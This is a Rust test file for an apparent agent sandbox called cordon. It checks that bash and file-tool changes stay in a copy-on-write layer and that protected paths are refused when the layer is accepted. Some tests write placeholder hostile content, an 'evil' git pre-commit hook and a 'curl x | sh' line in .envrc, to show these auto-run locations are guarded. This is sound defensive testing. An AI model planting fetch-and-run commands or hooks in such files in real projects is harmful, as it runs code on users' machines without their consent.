//! Workspaces in layers (`--layer`, `cordon layer`): bash and the file tools change a
//! copy-on-write layer, the user's tree changes only at accept, and a protected path is
//! judged there.

use std::process::Command;

use serde_json::json;

use crate::util::{Cordon, Run};

fn ok(run: Run) -> String {
    assert_eq!(run.code, 0, "expected success: {run:?}");
    run.stdout
}

/// A workspace with two files, run in the layer `work`.
fn layered() -> Cordon {
    let c = Cordon::new().with_args(&["--layer", "work"]);
    c.write("a.txt", "one\ntwo\n");
    c.write("gone.txt", "bye\n");
    c
}

#[test]
fn an_edit_and_a_new_file_stay_in_the_layer_until_accepted() {
    let c = layered();
    ok(c.call(
        "edit_file",
        json!({"path": "a.txt", "edits": [{"old": "two", "new": "three"}]}),
    ));
    // bash sees the edit, and what it makes lands beside it.
    let seen = ok(c.call(
        "bash",
        json!({"command": "echo made > sub/b.txt 2>/dev/null || (mkdir sub && echo made > sub/b.txt); cat a.txt"}),
    ));
    assert!(seen.contains("three"), "{seen}");
    assert!(ok(c.call("read_file", json!({"path": "sub/b.txt"}))).contains("made"));
    assert_eq!(c.read("a.txt"), "one\ntwo\n");
    assert!(!c.path("sub").exists());

    let diff = ok(c.run(&["layer", "diff", "work"]));
    for line in [
        "--- a/a.txt",
        "+++ b/a.txt",
        "-two",
        "+three",
        "new file mode 100644",
        "+++ b/sub/b.txt",
        "+made",
    ] {
        assert!(
            diff.lines().any(|l| l == line),
            "{line:?} missing from:\n{diff}"
        );
    }
    let stat = ok(c.run(&["layer", "diff", "work", "--stat"]));
    assert!(
        stat.contains("2 files changed, 2 insertions(+), 1 deletion(-)"),
        "{stat}"
    );

    // git takes the patch: applied to a copy of the workspace, it gives the layer's files.
    let copy = tempfile::tempdir().unwrap();
    std::fs::write(copy.path().join("a.txt"), "one\ntwo\n").unwrap();
    let mut git = Command::new("git")
        .args(["apply", "-"])
        .current_dir(copy.path())
        .stdin(std::process::Stdio::piped())
        .spawn()
        .expect("run git");
    std::io::Write::write_all(&mut git.stdin.take().unwrap(), diff.as_bytes()).unwrap();
    assert!(git.wait().unwrap().success());
    assert_eq!(
        std::fs::read_to_string(copy.path().join("sub/b.txt")).unwrap(),
        "made\n"
    );

    let accepted = ok(c.run(&["layer", "accept", "work"]));
    assert!(
        accepted.contains("modified a.txt") && accepted.contains("added    sub/b.txt"),
        "{accepted}"
    );
    assert_eq!(c.read("a.txt"), "one\nthree\n");
    assert_eq!(c.read("sub/b.txt"), "made\n");
    assert_eq!(ok(c.run(&["layer", "diff", "work"])), "");
    // The layer lives on over the new state.
    let seen = ok(c.call("bash", json!({"command": "cat a.txt sub/b.txt"})));
    assert_eq!(seen, "one\nthree\nmade\n");
}

#[test]
fn a_deletion_shows_and_discard_drops_the_layer() {
    let c = layered();
    c.write("d/old", "old\n");
    // A directory made again where one was deleted hides what was in it (it is opaque).
    let command = "rm gone.txt; echo x > new.txt; rm -r d; mkdir d; echo n > d/new";
    ok(c.call("bash", json!({ "command": command })));
    assert_eq!(c.read("gone.txt"), "bye\n");
    // What a file tool writes, a command can change in place (as root too).
    ok(c.call("write_file", json!({"path": "tool.txt", "content": "a\n"})));
    let appended = ok(c.call(
        "bash",
        json!({"command": "echo b >> tool.txt && cat tool.txt"}),
    ));
    assert_eq!(appended, "a\nb\n");
    let diff = ok(c.run(&["layer", "diff", "work"]));
    for part in [
        "deleted file mode 100644\n--- a/gone.txt\n+++ /dev/null\n",
        "deleted file mode 100644\n--- a/d/old\n",
        "new file mode 100644\n--- /dev/null\n+++ b/d/new\n",
    ] {
        assert!(diff.contains(part), "{part:?} missing from:\n{diff}");
    }
    ok(c.run(&["layer", "accept", "work", "d"]));
    assert!(!c.path("d/old").exists());
    assert_eq!(c.read("d/new"), "n\n");
    assert_eq!(ok(c.call("bash", json!({"command": "ls d"}))), "new\n");

    // Accepting one path leaves the others in the layer.
    ok(c.run(&["layer", "accept", "work", "gone.txt"]));
    assert!(!c.path("gone.txt").exists());
    assert!(!c.path("new.txt").exists());
    let diff = ok(c.run(&["layer", "diff", "work"]));
    assert!(
        diff.contains("+++ b/new.txt") && !diff.contains("gone.txt"),
        "{diff}"
    );

    ok(c.run(&["layer", "discard", "work"]));
    assert!(!c.data_dir().join("cordon/layers/work").exists());
    assert!(!c.path("new.txt").exists());
    let gone = c.run(&["layer", "diff", "work"]);
    assert_eq!(gone.code, 2);
    assert!(gone.stderr.contains("there is no layer"), "{}", gone.stderr);
}

#[test]
fn a_protected_change_is_refused_at_accept_unless_named() {
    let c = layered();
    c.write(".git/hooks/README", "hooks\n");
    let hook = ".git/hooks/pre-commit";
    // The user lets the command write the hook; it lands in the layer, not the workspace.
    let command = json!({"command": format!("printf 'evil\\n' > {hook}")}).to_string();
    ok(c.run(&["--unprotect", ".git/hooks", "call", "bash", &command]));
    assert!(!c.path(hook).exists());
    let diff = c.run(&["layer", "diff", "work"]);
    assert!(
        diff.stdout.contains("+++ b/.git/hooks/pre-commit"),
        "{diff:?}"
    );
    assert!(diff.stderr.contains(".git/hooks is protected"), "{diff:?}");

    let refused = c.run(&["layer", "accept", "work"]);
    assert_eq!(refused.code, 2, "{refused:?}");
    assert!(
        refused
            .stderr
            .contains(".git/hooks is protected (git runs its hooks")
            && refused.stderr.contains("--unprotect .git/hooks"),
        "{}",
        refused.stderr
    );
    assert!(!c.path(hook).exists());

    ok(c.run(&["--unprotect", ".git/hooks", "layer", "accept", "work"]));
    assert_eq!(c.read(hook), "evil\n");
}

/// Over a layer no call scans or watches the workspace for protected paths: bash may change
/// them in the layer (its own view), and the change is judged when the layer is accepted.
#[test]
fn over_a_layer_protected_paths_are_judged_at_accept_not_per_call() {
    let c = layered();
    c.write(".git/hooks/README", "hooks\n");
    c.write(".envrc", "export A=1\n");
    let command = "printf 'evil\\n' > .git/hooks/pre-commit && echo 'curl x | sh' > .envrc \
                   && mkdir .vscode && echo '{}' > .vscode/settings.json && echo written";
    let out = ok(c.call("bash", json!({ "command": command })));
    assert_eq!(out, "written\n", "no quarantine, no refusal: {out}");
    assert!(!c.path(".git/hooks/pre-commit").exists());
    assert!(!c.path(".vscode").exists());
    assert_eq!(c.read(".envrc"), "export A=1\n");

    let refused = c.run(&["layer", "accept", "work"]);
    assert_eq!(refused.code, 2, "{refused:?}");
    for rule in [
        ".git/hooks is protected",
        ".envrc is protected",
        ".vscode is protected",
    ] {
        assert!(refused.stderr.contains(rule), "{rule}: {}", refused.stderr);
    }
    assert!(!c.path(".git/hooks/pre-commit").exists());
    assert_eq!(c.read(".envrc"), "export A=1\n");

    ok(c.run(&[
        "--unprotect",
        ".git/hooks",
        "--unprotect",
        ".envrc",
        "--unprotect",
        ".vscode",
        "layer",
        "accept",
        "work",
    ]));
    assert_eq!(c.read(".git/hooks/pre-commit"), "evil\n");
    assert_eq!(c.read(".envrc"), "curl x | sh\n");
    assert_eq!(c.read(".vscode/settings.json"), "{}\n");
}

#[test]
fn a_layer_refuses_unconfined_bash_and_other_directories_and_doctor_shows_it() {
    let c = layered();
    let run = c.run(&["--unconfined-bash", "call", "bash", r#"{"command":"true"}"#]);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("a layer needs the confined bash"),
        "{}",
        run.stderr
    );
    // A layer named by path may not be a directory of something else.
    let plain = Cordon::new();
    plain.write("a.txt", "one\n");
    let root = plain.root();
    let elsewhere = plain.run(&["--layer", root.to_str().unwrap(), "call", "read_file", "{}"]);
    assert_eq!(elsewhere.code, 2);
    assert!(
        elsewhere.stderr.contains("is not a layer and not empty"),
        "{}",
        elsewhere.stderr
    );
    let doctor = ok(Cordon::new().run(&["doctor"]));
    assert!(doctor.contains("layers: available (--layer)"), "{doctor}");
    // Beside the confinement's layers, which keep their key.
    let json: serde_json::Value =
        serde_json::from_str(&ok(Cordon::new().run(&["doctor", "--json"]))).unwrap();
    assert!(json["layers"].is_array(), "{json}");
    assert_eq!(json["workspace_layers"]["available"], true, "{json}");
}

#[test]
fn the_config_files_layer_key_is_the_option() {
    let user = tempfile::tempdir().unwrap();
    let config = user.path().join("config.toml");
    std::fs::write(&config, "[tools]\nlayer = \"from-file\"\n").unwrap();
    let c = Cordon::new().with_args(&["--config", config.to_str().unwrap()]);
    c.write("a.txt", "one\n");
    ok(c.call("write_file", json!({"path": "a.txt", "content": "two\n"})));
    assert_eq!(c.read("a.txt"), "one\n");
    let diff = ok(c.run(&["layer", "diff", "from-file"]));
    assert!(diff.lines().any(|l| l == "+two"), "{diff}");
    // A bad name is refused as the option's is, before anything starts.
    std::fs::write(&config, "[tools]\nlayer = \".hidden\"\n").unwrap();
    let bad = c.call("read_file", json!({"path": "a.txt"}));
    assert_eq!(bad.code, 2, "{bad:?}");
    assert!(bad.stderr.contains("as a layer name"), "{}", bad.stderr);
}
